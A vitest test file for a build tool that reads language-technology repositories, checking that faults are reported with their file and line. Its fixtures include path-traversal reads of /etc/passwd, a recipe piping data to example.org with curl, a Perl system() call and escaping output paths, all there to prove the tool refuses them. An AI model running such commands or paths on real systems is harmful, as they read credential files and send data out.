/** What is wrong in a repository is named with its place, and nothing outside of it is read. */
import { describe, expect, test } from 'vitest';
import { growth, LINEAR } from '../../test/support/growth.js';
import { formatProblem } from '../fst/diagnostics/source-problem.js';
import { readConfiguration } from './repository/configuration.js';
import { openRepository } from './repository/repository.js';
import { builderOf, edited, filesOf, type Name, netFrom, relationOf } from './small-repositories.cases.js';
import { outputsOf, type Target } from './targets/targets.js';

const ANALYSER = 'src/fst/analyser-gt-desc.hfst';
const LEXICON = 'src/fst/morphology/.generated/lexicon.hfst';

/** What comes of a change in one file. */
function problemOf(name: Name, target: string, changes: Readonly<Record<string, string | undefined>>): string {
  try {
    builderOf(name, changes).make(target);
  } catch (error) {
    return (error as Error).message;
  }
  return 'nothing';
}

/** The line of a text in a file of a repository. */
function lineOf(name: Name, path: string, text: string): number {
  const lines = new TextDecoder().decode(filesOf(name).read(path)).split('\n');
  const line = lines.findIndex((each) => each.includes(text)) + 1;
  if (line === 0) throw new Error(`${path} has no ${text}`);
  return line;
}

describe('a repository with faults', () => {
  test('an include that leaves the repository is not read', () => {
    const makefile = 'src/fst/morphology/Makefile.am';
    const changes = edited(
      'qtw',
      makefile,
      'include $(srcdir)/Makefile.modifications-phon.am',
      'include /../../../etc/passwd',
    );
    const files = filesOf('qtw', changes);
    const asked: string[] = [];
    const watched = {
      ...files,
      has: (path: string) => {
        asked.push(path);
        return files.has(path);
      },
    };
    expect(() => openRepository(watched).makefile('src/fst/morphology').list('GT_LEXC_SRCS')).toThrow(
      /leaves the repository/,
    );
    expect(asked.some((path) => path.includes('passwd'))).toBe(false);
    const line = lineOf('qtw', makefile, 'Makefile.modifications-phon.am');
    expect(problemOf('qtw', LEXICON, changes)).toContain(`${makefile}:${line}`);
  });

  test('variables in a circle', () => {
    const makefile = 'src/fst/morphology/Makefile.am';
    const changes = edited('qtw', makefile, 'L1=\n', 'L1=$(L2) $(GT_LEXC_SRCS)\n');
    const line = lineOf('qtw', makefile, 'GT_LEXC_SRCS=');
    expect(problemOf('qtw', LEXICON, changes)).toMatch(
      new RegExp(`^${makefile}:${line}:1: error: variables that refer`),
    );
  });

  test('variables in a circle in a recipe', () => {
    const makefile = 'src/fst/Makefile.am';
    const circle = edited('qfx', makefile, 'GT_ANALYSERS=\n', 'GT_ANALYSERS=$(CIRCLE)\nCIRCLE=$(GT_ANALYSERS)\n');
    const changes = { [makefile]: circle[makefile]!.replace('$(HFST_MINIMIZE)', '$(CIRCLE)') };
    expect(problemOf('qfx', 'src/fst/generator-gt-norm.hfst', changes)).toMatch(
      /^src\/fst\/Makefile\.am:\d+:1: error: variables that refer/,
    );
  });

  test('a prerequisite that leaves the repository', () => {
    const makefile = 'src/fst/Makefile.am';
    const changes = edited('qfx', makefile, 'filters/spell-area-letters.hfst\n', '../../../../../etc/passwd\n');
    const line = lineOf('qfx', makefile, '.generated/generator-raw-gt-desc.hfst:');
    expect(problemOf('qfx', ANALYSER, changes)).toMatch(
      new RegExp(`^${makefile}:${line}:1: error: \\S+ leaves the repository`),
    );
  });

  test('a recipe with a program that nobody knows', () => {
    const makefile = 'src/fst/Makefile.am';
    const changes = edited('qfx', makefile, '| $(HFST_MINIMIZE)', '| curl -d @- http://example.org');
    const line = lineOf('qfx', makefile, '$(AM_V_COMPOSE)$(HFST_COMPOSE)');
    expect(problemOf('qfx', 'src/fst/generator-gt-norm.hfst', changes)).toBe(
      `${makefile}:${line}: the program curl is not supported; src/fst/.generated/generator-gt-norm.hfst needs this recipe`,
    );
  });

  test('an option that nobody knows', () => {
    const makefile = 'src/fst/Makefile.am';
    const changes = edited('qfx', makefile, '$(HFST_MINIMIZE)', '$(HFST_MINIMIZE) --faster');
    expect(problemOf('qfx', 'src/fst/generator-gt-norm.hfst', changes)).toMatch(
      /^src\/fst\/Makefile\.am:\d+: hfst-minimize: .*--faster/,
    );
  });

  test('a part of the lexicon that is missing', () => {
    const path = 'src/fst/morphology/stems/others.lexc';
    expect(problemOf('qtw', ANALYSER, { [path]: undefined })).toContain(path);
  });

  test('an error in the lexicon', () => {
    const path = 'src/fst/morphology/stems/nouns.lexc';
    const line = lineOf('qtw', path, 'tako N_STEM ;');
    const changes = edited('qtw', path, 'tako N_STEM ;', 'tako N_STEM N_STEM N_STEM ;');
    expect(problemOf('qtw', ANALYSER, changes)).toContain(`${path}:${line}`);
  });

  test.each<[string, Name, string, string, string, string]>([
    ['rules', 'qtw', 'src/fst/morphology/phonology.twolc', '%{A%}:ä <=>', '%{A%}:ä <=> ]', ANALYSER],
    ['scripts', 'qfx', 'src/fst/morphology/phonology.xfscript', 'read regex [', 'read regex [[', ANALYSER],
    ['filters', 'qtw', 'src/fst/filters/remove-norm-comp-tags.regex', '0 <-', '0 <- <-', ANALYSER],
    [
      'grammars',
      'qtw',
      'src/cg3/disambiguator.cg3',
      'REMOVE:homonym',
      'REMOV:homonym',
      'tools/grammarcheckers/disambiguator.bin',
    ],
    [
      'lists of edits',
      'qtw',
      'tools/spellcheckers/editdist.default.txt',
      'a\tä\t3',
      'a\tä\t3\t4\t5',
      'tools/spellcheckers/.generated/errmodel.default.hfst',
    ],
  ])('errors in %s', (_, name, path, from, to, target) => {
    expect(problemOf(name, target, edited(name, path, from, to))).toMatch(
      new RegExp(`${path.replaceAll('.', '\\.')}:\\d+`),
    );
  });

  test.each([
    ['/../../../etc/passwd', /:1: .*leaves the repository/],
    ['/etc/passwd', /:1: .*is not there/],
  ])('a grammar that includes %s', (included, expected) => {
    const path = 'src/cg3/disambiguator.cg3';
    const changes = edited('qtw', path, 'DELIMITERS', `INCLUDE ${included} ;\nDELIMITERS`);
    const problem = problemOf('qtw', 'tools/grammarcheckers/disambiguator.bin', changes);
    expect(problem).toContain(path);
    expect(problem).toMatch(expected);
  });

  test.each([
    ['errors.source.xml', '<defaults>', '<defaults>\n<a b="&name;"/>', 'undefined entity'],
    ['errors.source.xml', '</errors>', '', 'unclosed tag: errors'],
    ['pipespec.xml.in', '</pipespec>', '', 'unclosed tag: pipespec'],
  ])('%s that is no XML makes no pack', (name, from, to, expected) => {
    const path = `tools/grammarcheckers/${name}`;
    const builder = builderOf('qtw', edited('qtw', path, from, to));
    const [checker] = outputsOf('grammar', builder.repository);
    expect(() => checker!.write(builder)).toThrow(
      new RegExp(`^${path.replaceAll('.', '\\.')}:\\d+:\\d+: error: is not well-formed XML: .*${expected}`),
    );
  });
});

describe('what configure.ac says', () => {
  const locale = (name: string) =>
    edited('qfx', 'configure.ac', 'AC_SUBST([GTLANG2], $GLANG2)', `AC_SUBST([GTLANG2], [${name}])`);

  test.each<[string, Target, Record<string, string>]>([
    ['a path', 'speller', locale('../../escaped')],
    ['a whole path', 'grammar', locale('/tmp/escaped')],
    ['a path of Windows', 'mobile', locale('..\\\\escaped')],
    ['a hidden file', 'speech', locale('.escaped')],
    ['the path of an area', 'variants', edited('qfx', 'configure.ac', '["NO SE"]', '["NO /../../SE"]')],
  ])('gives no pack the name of %s', (_, target, changes) => {
    expect(() => outputsOf(target, openRepository(filesOf('qfx', changes)))).toThrow(
      /^configure\.ac: .* cannot be the name of a file$/,
    );
  });

  test('is read in time that grows with its length', () => {
    const ends = (text: string) => growth(8_000, (size) => void readConfiguration(text.repeat(size), () => false));
    for (const text of ['\n', ' \n', 'AC_SUBST([A], [\n', 'AM_CONDITIONAL([A], [\n', 'dnl \n'])
      expect([text, ends(text) < LINEAR]).toEqual([text, true]);
  });
});

describe('a recipe', () => {
  const ADDRESSES = 'src/fst/morphology/.generated/url.tmp.lexc';
  const MAKEFILE = 'src/fst/morphology/Makefile.am';

  test.each([
    ['has no regular expression', "sed -e 's/[z-a]/x/' $< > $@", /is not a regular expression/],
    ['has none for grep', "grep -E '(' $< > $@", /is not a regular expression/],
    [
      'makes more text than there can be',
      `echo a | sed ${"-e 's/./&&/g' ".repeat(40)} > $@`,
      /more than \d+ characters/,
    ],
    ['is nested without end', `${'('.repeat(100_000)}cat $<${')'.repeat(100_000)} > $@`, /./],
    ['writes outside', 'cp $< /../../../escaped', /leaves the repository/],
  ])('that %s is an error with its line', (_, command, message) => {
    const changes = edited('qfx', MAKEFILE, '\tcp $< $@\n', `\t${command}\n`);
    const said = problemOf('qfx', ADDRESSES, changes);
    expect(said).toMatch(/^src\/fst\/morphology\/Makefile\.am:\d+/);
    expect(said).toMatch(message);
  });
});

describe('a conversion script that does more than to substitute', () => {
  test('is named with the line, and is not run', () => {
    const script = 'src/fst/scripts/names-conversion.pl';
    const builder = builderOf('qtw', edited('qtw', script, 'print;', 'system("ls");'));
    const said: string[] = [];
    try {
      builder.make(LEXICON);
    } catch (error) {
      said.push((error as Error).message);
    }
    said.push(...builder.repository.warnings.map(formatProblem));
    expect(said.join('\n')).toContain(`${script}:${lineOf('qtw', script, 'print;')}`);
  });
});

describe('which rule is taken', () => {
  const NORM = 'src/fst/analyser-gt-norm.hfst';

  test('one that names a filter which is not listed is passed over, even if the file is there', () => {
    const filter = { 'src/fst/filters/insert-default-compounding-tags.regex': '"+Mark" <- "+N" ;\n' };
    expect(relationOf(netFrom(builderOf('qtw', filter), NORM))).toEqual(relationOf(netFrom(builderOf('qtw'), NORM)));
  });

  test('it is taken as soon as the filter is listed', () => {
    const listed = edited(
      'qtw',
      'src/fst/filters/Makefile.am',
      'remove-norm-comp-tags.regex \\',
      'remove-norm-comp-tags.regex insert-default-compounding-tags.regex \\',
    );
    const filter = { 'src/fst/filters/insert-default-compounding-tags.regex': '"+Mark" <- "+N" ;\n' };
    const relation = relationOf(netFrom(builderOf('qtw', { ...listed, ...filter }), NORM));
    expect(relation.has('tako:tako+Mark+Sg+Nom')).toBe(true);
    expect(relation.has('tako:tako+N+Sg+Nom')).toBe(false);
  });

  test('one whose prerequisites only other patterns make comes after one whose prerequisites are named', () => {
    // The first rule has the shorter stem, but needs a chain of patterns; the second needs what is there.
    const rules = [
      '.generated/order-a%.txt: .generated/order-b%.txt',
      '\techo "by a chain" > $@',
      '.generated/order-b%.txt: orders%.txt',
      '\tcp $< $@',
      '.generated/order-%.txt: order.txt',
      '\techo "from a file" > $@',
      '',
    ].join('\n');
    const makefile = edited('qtw', 'src/fst/Makefile.am', 'GT_ANALYSERS=\n', `GT_ANALYSERS=\n${rules}`);
    const made = (files: Record<string, string>) =>
      builderOf('qtw', { ...makefile, ...files }).make('src/fst/.generated/order-abc.txt');
    const both = { 'src/fst/order.txt': 'x\n', 'src/fst/ordersbc.txt': 'x\n' };
    expect(made(both)).toMatchObject({ text: 'from a file\n' });
    expect(made({ 'src/fst/ordersbc.txt': 'x\n' })).toMatchObject({ text: 'by a chain\n' });
  });
});
